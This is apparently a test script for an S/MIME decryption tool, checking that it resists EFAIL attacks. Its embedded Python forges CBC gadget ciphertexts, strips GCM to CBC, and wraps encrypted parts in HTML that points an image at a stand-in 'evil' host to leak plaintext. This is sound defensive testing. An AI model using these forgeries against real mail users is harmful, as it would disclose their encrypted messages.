#!/usr/bin/env bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# EFAIL and what followed it: blocks of CBC cut and pasted so that an attacker's text appears in what is decrypted, encrypted
# parts between an attacker's HTML, and messages with an authenticated cipher turned into others without one.
. "$(dirname "$0")/../lib/lib.sh"

fixture people
agent_start

export PYTHONPATH=$SOURCE/tests/lib
cd "$T" || exit
printf 'Content-Type: text/plain; charset=utf-8\r\n\r\nThe secret of this mail is: rosebud.%s\r\n' \
	"$(printf ' And so on and so forth.%.0s' {1..20})" >entity
printf 'From: alice@example.org\r\nTo: bob@example.org\r\nSubject: a secret\r\n' >header

# A decryption that nothing authenticates: done, called so, and a failure where a signature is required.
unauthenticated() { # DESCRIPTION FILE
	rm -f plain never
	check "M9: $1: decrypted" 0 smime decrypt "$2" -o plain
	says "M9: $1: called not authenticated" 'warning: not authenticated: .*anyone could have changed the content'
	check "M9: $1: refused where a signature is required" 1 smime decrypt --require-signature "$2" -o never
	absent "M9: $1: and not written then" "$T/never"
	run smime decrypt --json "$2" -o plain
	is "M9: $1: flagged in the report" "$(json "$T/out" '(d["encrypted"], d["authenticated"], d["signed"], d["good"])')" '(True, False, False, False)'
}
damaged() { # DESCRIPTION FILE: the one answer to whatever is wrong with a ciphertext
	answer "$1" 1 "$2"
	is "$1: with the one text for it" "$(cat "$T/err")" "smime decrypt: the content can't be decrypted or was changed"
}
answer() { # DESCRIPTION CODE FILE [OPTION...]: nothing is written
	rm -f never
	check "$1: refused" "$2" smime decrypt "${@:3}" -o never
	absent "$1: and not written" "$T/never"
}
encrypted_mail() { # FILE PERSON OPTIONS...: $T/cms, and $T/mail around it
	openssl cms -encrypt -binary "${@:3}" -outform DER -in "$1" -out cms "$2.pem" &&
		python3 -c 'from forge import *; write("mail", cms_mail(read("header"), read("cms")))'
}

# ---- Blocks cut and pasted (EFAIL, "CBC gadgets") ----

# Rewrites a message of which the first block of plaintext is known: each chosen block costs one of garbage in front of it, which
# a comment swallows. The last blocks stay, so that the padding is right.
cat >gadgets.py <<'END'
import sys
from forge import *
fields = inside(read('cms'))
kind, cipher, data = parts(fields[2])
name, parameters = parts(cipher)
data, known = take(data)[1], b'Content-Type: te'
cbc = sys.argv[1] == 'cbc'
before = take(parameters)[1] if cbc else bytes(16)
def chosen(text):
    return bytes(a ^ b ^ c for a, b, c in zip(before, known, text.ljust(16)))
first = data[:16]
pasted = b''.join(chosen(text) + first for text in (b'xt/html\r\n\r\n<!--', b'--><img src=">"', b'"http://evil/x">'))
fields[2] = sequence(kind, sequence(name, octets(chosen(b'content-type: te')) if cbc else parameters), tlv(0x80, first + pasted + data[16:]))
write('mail', cms_mail(read('header'), content_info(ENVELOPED if cbc else AUTH_ENVELOPED, *fields)))
END
for person in alice bob; do
	encrypted_mail entity $person -aes256
	python3 gadgets.py cbc
	unauthenticated "gadgets in what was encrypted for $person" mail
	holds "M9: the attack on $person works: chosen text is in the plaintext" grep -qa 'http://evil/x' plain
	holds "M9: beside the secret of $person" grep -qa rosebud plain
	encrypted_mail entity $person -aes-256-gcm
	python3 gadgets.py gcm
	damaged "M9: blocks pasted into GCM for $person" mail
done

# The same where a signature is inside: wherever blocks are changed, nothing that the signer did not write is authenticated.
cat >everywhere.py <<'END'
import json, os, subprocess, sys
from forge import *
fields = inside(read('cms'))
kind, cipher, data = parts(fields[2])
name, iv = parts(cipher)
data, iv = take(data)[1], take(iv)[1]
blocks = [iv] + [data[i:i + 16] for i in range(0, len(data), 16)]
signed = read('entity').split(b'\r\n\r\n', 1)[1].strip()

def smime(*options):
    return subprocess.run(['smime', 'decrypt', *options, 'mail'], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)

def outcome(blocks):
    forged = fields[:2] + [sequence(kind, sequence(name, octets(blocks[0])), tlv(0x80, b''.join(blocks[1:])))]
    write('mail', cms_mail(read('header'), content_info(ENVELOPED, *forged)))
    write('plain', b'')
    result, strict = smime('--json', '-o', 'plain'), smime('--require-signature', '-o', 'never')
    plain = read('plain')
    if result.returncode:
        return 'WRITTEN' if plain or strict.returncode == 0 else 'refused'
    report = json.loads(result.stdout)
    if not report['authenticated'] and strict.returncode:
        return 'unauthenticated'
    return 'authentic' if report['good'] and plain.split(b'\r\n\r\n', 1)[1].strip() == signed else 'FORGED'

found = [('the unchanged message', outcome(blocks))]
for i in range(1, len(blocks) - 2, int(sys.argv[1])):
    flipped = bytes([blocks[i - 1][0] ^ 1]) + blocks[i - 1][1:]
    found += [('block %d changed' % i, outcome(blocks[:i - 1] + [flipped] + blocks[i:])),
              ('block %d dropped' % i, outcome(blocks[:i] + blocks[i + 1:])),
              ('block %d doubled' % i, outcome(blocks[:i] + [blocks[i]] + blocks[i:])),
              ('blocks %d exchanged' % i, outcome(blocks[:i] + [blocks[i + 1], blocks[i]] + blocks[i + 2:]))]
bad = [entry for entry in found if entry[1].isupper()]
words = [word for _, word in found]
if words[0] != 'authentic':
    bad.append(found[0])
print({word: words.count(word) for word in sorted(set(words))})
print('%s M9: of %d changes to CBC around a signature (%s) none is taken for the signer\'s word :: %s' % ('fail' if bad else 'pass', len(found) - 1, sys.argv[2], bad))
END
smime sign -k alice@example.org -o clear <(cat header entity)
smime sign -k alice@example.org --opaque -o opaque <(cat header entity)
for form in clear opaque; do
	sed -n '/^Content-Type: \(multipart\|application\)/,$p' $form >part
	encrypted_mail part bob -aes256
	points_of python3 everywhere.py 9 $form
done

# A preamble is where an attacker's blocks would stand best.
sed -n '/^Content-Type: multipart/,$p' clear >part
{ sed '/^\r*$/q' part && printf 'A preamble that nobody signed.\r\n' && sed '1,/^\r*$/d' part; } >preamble
encrypted_mail preamble bob -aes256
check 'M5: a preamble around the signed part inside' 0 smime decrypt --require-signature mail -o plain
says 'M5: is said to be outside the signature' 'text outside the signed part'
fails 'M5: and is not in what is written' grep -q 'nobody signed' plain

# ---- Whose signature authenticates ----

flag() { # DESCRIPTION EXPECTED: "authenticated" in the report about $T/mail
	run smime decrypt --json mail -o plain
	is "M9: $1" "$code $(json "$T/out" 'd["authenticated"]')" "0 $2"
}
encrypted_mail part bob -aes256
flag 'CBC with a good signature inside is authenticated' True
encrypted_mail entity bob -aes256
flag 'CBC without one is not' False
encrypted_mail entity bob -aes-256-gcm
flag 'GCM is' True
openssl cms -sign -binary -nodetach -signer stranger.pem -inkey stranger.key -in entity -outform DER |
	python3 -c 'import sys; from forge import *; write("inner", cms_mail(b"", sys.stdin.buffer.read(), "signed-data"))'
encrypted_mail inner bob -aes256
flag 'CBC with the signature of somebody untrusted inside is not' False
# Encrypted first and signed afterwards: anybody can take that signature away and put his own there (RFC 9787 8.2).
encrypted_mail entity bob -aes256
sed -n '/^MIME-Version/,$p' mail |
	openssl cms -sign -binary -nodetach -signer peer-rsa.pem -inkey peer-rsa.key -certfile ca/issuing.pem -outform DER |
	python3 -c 'import sys; from forge import *; write("mail", cms_mail(b"From: peer-rsa@example.org\r\n", sys.stdin.buffer.read(), "signed-data"))'
flag 'CBC with a good signature around it is not' False
answer 'M9: a signature around it is not the one that is required' 1 mail --require-signature

# ---- An authenticated cipher taken away (RFC 9709 1) ----

cat >strip.py <<'END'
from forge import *
key, nonce, iv = random(32), random(12), random(16)
transport = key_transport(certificate('alice.pem'), 'alice.pub', key)
data, tag = gcm(key, nonce, read('entity'))
chosen = cbc(key, iv, b'Content-Type: text/html\r\n\r\n<img src="http://evil/x">\r\n')
gcm_16, cbc_iv = algorithm(AES256_GCM, gcm_parameters(nonce, 16)), algorithm(AES256_CBC, octets(iv))
front = [integer(0), set_of(transport)]
for name, message in {
    'gcm': enveloped_gcm([transport], nonce, data, tag),
    'gcm-12': enveloped_gcm([transport], nonce, data, tag[:12]),
    'gcm-4': enveloped_gcm([transport], nonce, data, tag[:4]),
    'gcm-cut': enveloped_gcm([transport], nonce, data[:-16], tag),
    'gcm-attributes': enveloped_gcm([transport], nonce, data, tag, attributes=[attribute('1.2.3.4', tlv(12, b'text'))]),
    'gcm-other-type': enveloped_gcm([transport], nonce, data, tag, kind=SIGNED),
    'gcm-no-tag': content_info(AUTH_ENVELOPED, *front, encrypted_content(gcm_16, data)),
    'gcm-empty-tag': content_info(AUTH_ENVELOPED, *front, encrypted_content(gcm_16, data), octets(b'')),
    'gcm-enveloped': content_info(ENVELOPED, *front, encrypted_content(gcm_16, data)),
    # The same key under CBC: with the text of somebody who could get it encrypted, and with the octets of GCM.
    'cbc': enveloped_cbc([transport], iv, chosen),
    'cbc-octets': enveloped_cbc([transport], nonce + b'\0\0\0\2', data + bytes(-len(data) % 16)),
    'cbc-authenveloped': content_info(AUTH_ENVELOPED, *front, encrypted_content(cbc_iv, chosen), octets(tag)),
}.items():
    write(name, cms_mail(read('header'), message))
END
python3 strip.py
for form in gcm gcm-12; do
	check "M9: $form, made by hand, is decrypted" 0 smime decrypt $form -o plain
	holds "M9: $form: to its text" grep -q rosebud plain
done
damaged 'M9: the key of GCM asked for again under CBC' cbc
damaged 'M9: and with the octets of GCM' cbc-octets
damaged 'M9: GCM that lost its end' gcm-cut
damaged 'M9: GCM with attributes that nobody authenticated' gcm-attributes
for form in gcm-4 gcm-no-tag gcm-empty-tag gcm-enveloped cbc-authenveloped gcm-other-type; do
	answer "M9: $form" 6 $form
done
# A key that the agent has not seen yet: this can't be told from what an honest sender made, but nothing vouches for it.
python3 strip.py
unauthenticated 'the key of GCM under CBC first' cbc
check 'M9: the genuine message is not kept closed by it' 0 smime decrypt gcm -o plain
holds 'M9: and opens to its text' grep -q rosebud plain
unlike 'M9: and is authenticated' "$(cat "$T/err")" 'not authenticated'
damaged 'M9: after which the key is not given for CBC any more' cbc

# ---- Encrypted parts between an attacker's (EFAIL, "direct exfiltration") ----

encrypted_mail entity bob -aes256
python3 - <<'END'
from forge import *
def html(text):
    return b'--b\r\nContent-Type: text/html\r\n\r\n' + text + b'\r\n'
encrypted = cms_mail(b'', read('cms'))
around = html(b'<img src="http://evil/') + b'--b\r\n' + encrypted + html(b'">') + b'--b--\r\n'
for kind in (b'mixed', b'related', b'alternative', b'digest', b'parallel', b'report', b'encrypted', b'signed'):
    write('in-' + kind.decode(), read('header') + b'MIME-Version: 1.0\r\nContent-Type: multipart/' + kind + b'; boundary=b\r\n\r\n' + around)
write('in-message', read('header') + b'MIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n' + read('header') + encrypted)
inner = b'Content-Type: multipart/mixed; boundary=b\r\n\r\n' + around
signature = openssl('cms', '-sign', '-binary', '-signer', 'peer-rsa.pem', '-inkey', 'peer-rsa.key', '-certfile', 'ca/issuing.pem',
                    '-outform', 'DER', data=inner)
write('in-signed-mixed', multipart_signed(b'From: peer-rsa@example.org\r\n', inner, signature))
END
for form in mixed related alternative digest parallel report encrypted message signed-mixed; do
	answer "M9: an encrypted part among others, multipart/$form" 1 in-$form
	says "M9: multipart/$form: what is wrong is told" 'the message is not encrypted'
done
answer 'M9: an encrypted part in what calls itself signed' 6 in-signed
check 'M5: the signature around them is good' 0 smime verify in-signed-mixed -o content
holds 'M5: and covers what stays encrypted' grep -q 'application/pkcs7-mime' content

# What comes out is the one entity that was encrypted, under the mail's header, and no text that stood around it.
{
	printf 'From: alice@example.org\r\nContent-Disposition: inline; filename="<img src=http://evil/"\r\nContent-Description: <img src="http://evil/\r\n'
	python3 -c 'import sys; from forge import *; sys.stdout.buffer.write(cms_mail(b"", read("cms")))'
	printf '\r\n<b>">and text behind the base64</b>\r\n'
} >mail
check 'M9: text around the base64 of an encrypted mail' 0 smime decrypt mail -o plain
fails 'M9: is not in what is written' grep -qa -e evil -e behind plain
done_testing
